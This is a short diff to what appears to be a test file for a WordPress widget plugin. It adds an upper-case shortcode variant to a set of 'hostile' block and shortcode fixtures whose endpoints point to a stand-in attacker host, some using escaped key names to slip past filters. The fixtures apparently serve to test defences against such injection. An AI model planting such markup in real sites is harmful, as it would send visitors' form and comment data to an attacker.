@@ -121,8 +121,8 @@ const HOSTILE_BLOCKS = [
   `<!-- wp:firm-widgets/contact-form {"source":"rest","endpoint":"https://${ATTACKER}/block","keepDrafts":"device"} /-->`,
   `<!-- wp:firm-widgets/comments {"source":"rest","\\u0065ndpoint":"https://${ATTACKER}/block-comments","keep_drafts":"device"} /-->`,
 ].join('\n\n');
-const HOSTILE_PATTERN = `${HOSTILE}\n\n${HOSTILE_BLOCKS}`;
-const PATTERN_TAGS = 5;
+const HOSTILE_PATTERN = `${HOSTILE}\n\n[firm_contact_form SOURCE='rest' Endpoint=https://${ATTACKER}/upper]\n\n${HOSTILE_BLOCKS}`;
+const PATTERN_TAGS = 6;
 
 /** An Administrator's published post that shows synced pattern `ref`. */
 function adminPostShowing(ref) {
